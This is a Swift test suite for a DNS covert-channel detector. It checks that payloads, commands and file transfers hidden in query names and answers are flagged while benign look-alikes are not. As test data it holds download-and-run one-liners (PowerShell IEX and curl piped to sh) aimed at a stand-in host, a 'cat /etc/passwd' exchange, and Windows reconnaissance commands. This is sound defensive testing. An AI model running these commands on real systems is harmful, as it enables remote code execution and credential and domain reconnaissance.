import Channels
import DNSWire
import Findings
import NetworkTypes
import TestSupport
import Testing
import ZoneProfiles

/// Payload in names and answers that carry little or hide behind others, each beside its quiet twin: the same shape
/// with ordinary content.
@Suite struct PayloadLawTests {
    private static func findings(_ traffic: Traffic) -> [Finding] {
        traffic.findings.filter { $0.severity >= .low }
    }

    // MARK: Digests

    /// A service that is asked by digests says something of some of them; who never answers only listens.
    @Test(arguments: [true, false])
    func digestsThatNobodyTellsAnythingOf(isAnswered: Bool) {
        var generator = SeededGenerator(seed: 57)
        var traffic = TrafficModel.browsing(seed: 3)
        for index in 0..<300 {
            let digest = String(decoding: TextEncoding.base16.encode(generator.octets(20)), as: UTF8.self)
            traffic.exchange(
                at: Double(index * 3 + index * 7 % 3),
                "\(digest).files.listhost.org",
                answers: isAnswered && index % 9 == 0 ? [.address(0x7F00_0002)] : [],
                code: index % 9 == 0 ? .noError : .nxDomain
            )
        }
        #expect(Self.findings(traffic.inOrderOfTime).isEmpty == isAnswered)
    }

    /// Telephone numbers have 15 digits at most (E.164); numbers of 30 digits say more than whom somebody calls.
    @Test(arguments: [(11, false), (30, true)])
    func digitsOneALabel(digits: Int, isData: Bool) {
        var generator = SeededGenerator(seed: 58)
        var traffic = TrafficModel.browsing(seed: 3)
        for index in 0..<300 {
            let number = (0..<digits).map { _ in "\(Int.random(in: 0..<10, using: &generator))" }
            traffic.exchange(
                at: Double(index * 4 + index * index % 3),
                number.joined(separator: ".") + ".numbers.carrierhost.net",
                type: .naptr,
                answers: [
                    .init(type: .naptr, octets: [0, 10, 0, 10, 1, 0x75, 7] + Array("E2U+sip".utf8) + [0, 0])
                ]
            )
        }
        #expect(traffic.inOrderOfTime.findings.contains { $0.severity >= .medium } == isData)
    }

    /// Digests of keys are no text, whatever else is in order.
    @Test(arguments: [true, false])
    func textInPlaceOfKeys(isText: Bool) {
        var generator = SeededGenerator(seed: 59)
        let words = Array(
            "the harbour plans are in the second drawer, and the keys are with the porter. ".utf8
        )
        var traffic = TrafficModel.browsing(seed: 3)
        for index in 0..<90 {
            let digest =
                isText ? (0..<32).map { words[($0 + index * 7) % words.count] } : generator.octets(32)
            let (name, time) = ("node\(index).cluster.institute.org", Double(index * 6 + index * index % 5))
            traffic.exchange(at: time, name, answers: [.address(0x0A50_0100 | UInt32(index))])
            traffic.exchange(
                at: time + 0.1,
                name,
                type: .sshfp,
                answers: [.init(type: .sshfp, timeToLive: 3_600, octets: [4, 2] + digest)]
            )
        }
        #expect(!Self.findings(traffic.inOrderOfTime).isEmpty == isText)
    }

    /// A site has one network of its own (RFC 4193 §3.2), in which its hosts are; random addresses are each in another.
    @Test(arguments: [true, false])
    func addressesInNetworksOfManySites(isData: Bool) {
        var generator = SeededGenerator(seed: 60)
        let site = [0xFD] + generator.octets(5)
        var traffic = TrafficModel.browsing(seed: 3)
        for index in 0..<120 {
            let address = isData ? [0xFD] + generator.octets(15) : site + generator.octets(10)
            traffic.exchange(
                at: Double(index * 5 + index * index % 4),
                "node\(index).mesh.institute.org",
                type: .aaaa,
                answers: [.init(type: .aaaa, octets: address)]
            )
        }
        #expect(traffic.inOrderOfTime.findings.contains { $0.severity >= .medium } == isData)
    }

    // MARK: Registered labels

    /// The registered label is the payload, through a resolver or straight to a server, answered or denied.
    @Test(arguments: [TextEncoding.base16, .base32, .base64], [ResponseCode.noError, .nxDomain])
    func registeredLabels(encoding: TextEncoding, code: ResponseCode) throws {
        var generator = SeededGenerator(seed: 51)
        var traffic = Traffic()
        let suffixes = ["com", "net", "co.uk"]
        for index in 0..<45 {
            let label = Array(encoding.encode(generator.octets(40)).prefix(60))
            traffic.exchange(
                at: Double(index * index) / 5,
                labels: [label] + MessageBuilder.labels(suffixes[index % 3]),
                code: code
            )
        }
        let finding = try #require(traffic.findings.first)
        #expect(finding.kind == .exfiltration && finding.severity >= .medium)
        #expect(traffic.findings.allSatisfy { $0.kind != .generatedDomains })
        #expect(finding.clients.map(\.address.description) == ["10.0.0.17"])
        #expect(finding.zones == ["."] && finding.displayFilter.contains("(com|net|co\\\\.uk)"))
    }

    /// Long domains of words, and generated ones of digests that do not exist, are something else.
    @Test(arguments: [true, false])
    func registeredLabelsOfOthers(areWords: Bool) {
        var generator = SeededGenerator(seed: 52)
        let words = [
            "river", "garden", "family", "dentist", "holiday", "kitchen", "travel", "summer", "forest",
        ]
        var traffic = Traffic()
        for index in 0..<45 {
            let label =
                areWords
                ? (0..<6).map { _ in words.randomElement(using: &generator) ?? "" }.joined()
                : String(decoding: TextEncoding.base16.encode(generator.octets(16)), as: UTF8.self)
            traffic.exchange(at: Double(index), "\(label).com", code: areWords ? .noError : .nxDomain)
        }
        #expect(traffic.findings.allSatisfy { $0.kind != .exfiltration || $0.severity < .low })
    }

    /// Some pieces in each of many domains, none of which has enough; then tokens that a service wants in each, keys
    /// below an underscore, and one subject that several lists are asked about.
    @Test(arguments: ["pieces", "tokens", "keys", "subjects"])
    func piecesInManyDomains(content: String) throws {
        var generator = SeededGenerator(seed: 58)
        let subjects = (0..<4).map { _ in TextEncoding.base32.encode(generator.octets(20)) }
        var traffic = Traffic()
        for index in 0..<96 where content != "tokens" || index < 24 {
            let label =
                content == "subjects"
                ? subjects[index / 24] : TextEncoding.base32.encode(generator.octets(20))
            let key = content == "keys" ? "_domainkey." : ""
            traffic.exchange(
                at: Double(index * index) / 3,
                labels: [label] + MessageBuilder.labels(key + "domain\(index % 24).com"),
                answers: [.address(0x2D4D_0C09)]
            )
        }
        let finding = traffic.findings.first { $0.severity >= .medium }
        #expect((finding != nil) == (content == "pieces"))
        guard let finding else { return }
        #expect(finding.zones.count == 24 && finding.zones.contains("domain7.com"))
        #expect(finding.queries == 96 && finding.displayFilter.contains("domain7\\\\.com"))
        #expect(finding.nextSteps.contains { $0.contains("domain7.com") })
    }

    /// Octets of a text each by itself, as `69-70-63`; then hardware addresses, which are written alike.
    @Test(arguments: [true, false])
    func octetsBetweenHyphens(areText: Bool) {
        var generator = SeededGenerator(seed: 61)
        let text = Array((Self.commands + Self.commands).joined(separator: "\n").utf8)
        var traffic = Traffic()
        for index in 0..<40 {
            let octets =
                areText ? Array(text[(4 * index)..<(4 * index + 12)]) : [0x02, 0x1A] + generator.octets(10)
            let label = octets.map { String(decoding: TextEncoding.base16.encode([$0]), as: UTF8.self) }
                .joined(separator: "-")
            traffic.exchange(at: Double(index * index), "\(label).h\(index).example.org", code: .nxDomain)
        }
        let readable = traffic.findings.flatMap(\.evidence).filter { $0.feature == "encoded_text_bits" }
        #expect(readable.isEmpty == !areText)
        #expect(traffic.findings.contains { $0.severity >= .medium } == areText)
    }

    // MARK: Answers

    /// Addresses whose octets are letters, then hosts of a network whose numbers are letters by chance.
    @Test(arguments: [true, false])
    func textInAddresses(isText: Bool) {
        let text = Array(Self.commands.joined(separator: "\n").utf8)
        var traffic = Traffic()
        for index in 0..<36 {
            let octets =
                isText
                ? Array(text[(4 * index)..<(4 * index + 4)])
                : [104, 100, 97 + UInt8(index % 2), 60 + UInt8(index)]
            traffic.exchange(
                at: Double(index) * 7,
                "n\(index).example.org",
                answers: [.address(octets.reduce(0) { $0 << 8 | UInt32($1) })]
            )
        }
        let readable = traffic.findings.flatMap(\.evidence).filter { $0.feature == "encoded_answer_bits" }
        #expect(readable.isEmpty == !isText)
        #expect(traffic.findings.contains { $0.severity >= .low } == isText)
    }

    private static let commands = [
        "whoami /all", "ipconfig /all", "net group \"domain admins\"", "dir C:\\Users\\Public", "systeminfo",
        "tasklist /v", "type notes.txt", "netstat -ano", "arp -a", "quser", "nltest /dclist:", "route print",
    ]

    /// A file that is fetched piece by piece under numbered names; then hosts with numbers, which are aliases of one.
    @Test(arguments: [true, false])
    func piecesBehindNumbers(areNew: Bool) {
        var generator = SeededGenerator(seed: 62)
        var traffic = Traffic()
        for index in 0..<150 {
            let label =
                areNew
                ? String(decoding: TextEncoding.base16.encode(generator.octets(28)), as: UTF8.self) : "edge"
            traffic.exchange(
                at: Double(index) / 3,
                "r\(index).example.org",
                answers: [.name(.cname, "\(label).example.org", timeToLive: 0)]
            )
        }
        #expect(traffic.findings.contains { $0.severity >= .medium } == areNew)
    }

    /// A name that is polled for commands, among names that say nothing.
    @Test(arguments: [true, false])
    func commandsForOneName(areCommands: Bool) {
        var generator = SeededGenerator(seed: 53)
        var traffic = Traffic()
        for (index, command) in Self.commands.enumerated() {
            traffic.exchange(
                at: Double(index) * 25,
                "job.example.org",
                type: .txt,
                answers: [
                    .text(
                        areCommands
                            ? TextEncoding.base16.encode(Array(command.utf8))
                            : TextEncoding.base16.encode([UInt8(index)])
                    )
                ]
            )
            traffic.exchange(
                at: Double(index) * 25 + 3,
                "www\(index).example.org",
                answers: [.address(0xC633_6401)]
            )
        }
        _ = generator.octets(1)
        #expect((Self.findings(traffic).map(\.severity).max() ?? .info >= .medium) == areCommands)
    }

    /// One question is a command and its answer what it printed; then digests that are answered with digests.
    @Test(arguments: [TextEncoding.base16, .base32, .base64], [true, false])
    func oneExchange(encoding: TextEncoding, isText: Bool) {
        var generator = SeededGenerator(seed: 54)
        let command = Array("cat /etc/passwd".utf8)
        let output = Array(
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin".utf8
        )
        var traffic = Traffic()
        traffic.exchange(
            at: 1,
            labels: [encoding.encode(isText ? command : generator.octets(command.count))]
                + MessageBuilder.labels("x.example.org"),
            type: .txt,
            answers: [.text(encoding.encode(isText ? output : generator.octets(output.count)))]
        )
        #expect(Self.findings(traffic).isEmpty == !isText)
    }

    /// A short command straight to a server under no suffix at all; then a short host of the site, and a short name of
    /// which one asks for the text.
    @Test(arguments: [(["whoami\n", "ls -la\n"], true), (["printer", "plotter"], false)])
    func shortCommandStraight(commands: [String], isChannel: Bool) {
        let output = "svc-backup is a member of wheel, docker and adm"
        var traffic = Traffic()
        for (index, command) in commands.enumerated() {
            traffic.exchange(
                at: Double(index) * 7,
                labels: [isChannel ? TextEncoding.base64.encode(command.utf8) : Array(command.utf8)],
                type: .txt,
                server: 0xCB00_715B,
                answers: [.text(isChannel ? TextEncoding.base64.encode(output.utf8) : Array("hp-1".utf8))]
            )
            traffic.exchange(at: Double(index) * 7 + 3, "printer", code: .nxDomain)
        }
        let findings = Self.findings(traffic)
        #expect(findings.isEmpty == !isChannel)
        #expect(findings.allSatisfy { $0.servers.map(\.description) == ["203.0.113.91"] })
    }

    /// Texts that are full of news stay payload, however many machines fetch them; a policy does not.
    @Test(arguments: [true, false])
    func oneFileForSeveralMachines(isFile: Bool) {
        var generator = SeededGenerator(seed: 57)
        let pieces = (0..<48).map { index in
            isFile
                ? TextEncoding.base64.encode(generator.octets(150))
                : Array("v=spf1 ip4:192.0.2.\(index) include:_spf.example.org -all".utf8)
        }
        var traffic = Traffic()
        for client in 0..<4 {
            for (index, piece) in pieces.enumerated() {
                traffic.exchange(
                    at: Double(47 * client) + Double(index * index) / 50,
                    "c\(index).files.example.org",
                    type: .txt,
                    client: 0x0A00_0100 + UInt32(client),
                    answers: [.text(piece)]
                )
            }
        }
        #expect((Self.findings(traffic).contains { $0.kind == .infiltration }) == isFile)
    }

    /// A one-liner is told whoever else asks for it.
    @Test(arguments: [
        (
            "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://h.example.net/a')\"",
            true
        ),
        ("curl -s http://h.example.net/a | /bin/sh", true),
        ("v=STSv1; id=20261130", false), ("The powers of this shell are limited to the beach.", false),
    ])
    func oneLiners(text: String, isProgram: Bool) {
        var traffic = Traffic()
        for client in 0..<40 {
            traffic.exchange(
                at: Double(client),
                "cfg.example.org",
                type: .txt,
                client: 0x0A00_0100 + UInt32(client),
                answers: [.text(text.utf8)]
            )
        }
        #expect(Self.findings(traffic).isEmpty == !isProgram)
    }

    // MARK: Addresses

    /// One answer with as many networks as records, most of them never allocated; then hosts of one provider.
    @Test(arguments: [true, false])
    func oneSetOfAddresses(isData: Bool) {
        var generator = SeededGenerator(seed: 55)
        var traffic = Traffic()
        traffic.exchange(
            at: 1,
            "a.evil.example.org",
            type: .aaaa,
            answers: (0..<60).map { index in
                let start: [UInt8] = isData ? [0x20, UInt8(index)] : [0x2A, 0x00, 0x14, 0x50, 0x40, 0x01]
                return Traffic.Answer(type: .aaaa, octets: start + generator.octets(16 - start.count))
            }
        )
        #expect((Self.findings(traffic).map(\.severity).max() ?? .info >= .medium) == isData)
    }

    // MARK: The zone

    /// The few names up lie beside the many polls down; the zone holds both.
    @Test
    func rolesDoNotSplitTheZone() throws {
        var generator = SeededGenerator(seed: 56)
        var traffic = Traffic()
        for index in 0..<200 {
            traffic.exchange(
                at: Double(index) / 5,
                "\(index * 56)-\(20_000 + index * 131).id-31877.down.gate.example.org",
                type: .txt,
                answers: index.isMultiple(of: 4)
                    ? [.text(TextEncoding.base64.encode(generator.octets(120)))] : []
            )
        }
        for index in 0..<4 {
            traffic.exchange(
                // Between the polls: both have the id 0, and of two open queries with one id nobody knows which is answered.
                at: 11.1 + Double(index),
                labels: [TextEncoding.base32.encode(generator.octets(35)), Array("5\(index)-0".utf8)]
                    + MessageBuilder.labels("id-31877.up.gate.example.org")
            )
        }
        let finding = try #require(traffic.inOrderOfTime.findings.first)
        #expect(finding.zones == ["gate.example.org"] && finding.severity >= .medium)
        #expect(finding.queries == 204)
    }

    /// Hosts beside a fleet's names are no other direction.
    @Test func hostsBesideTheZone() {
        let names = (0..<200).map { DomainName("\($0)a7f3e2\($0).t.example.org") }
        let hosts = ["www", "mail", "a-long-name-of-words"].map { DomainName($0 + ".example.org") }
        let cuts = ZoneCut.candidates(below: DomainName("example.org"), names: names + hosts)
        #expect(ZoneCut.zone(of: cuts) == DomainName("t.example.org"))
    }
}
